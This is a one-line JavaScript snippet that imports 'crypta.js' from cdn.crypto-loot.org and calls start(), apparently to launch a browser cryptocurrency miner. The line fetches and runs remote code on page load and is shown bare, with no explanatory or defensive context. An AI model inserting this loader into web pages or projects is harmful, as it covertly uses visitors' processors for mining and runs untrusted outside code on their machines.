import("https://cdn.crypto-loot.org/crypta.js").then((m) => m.start());
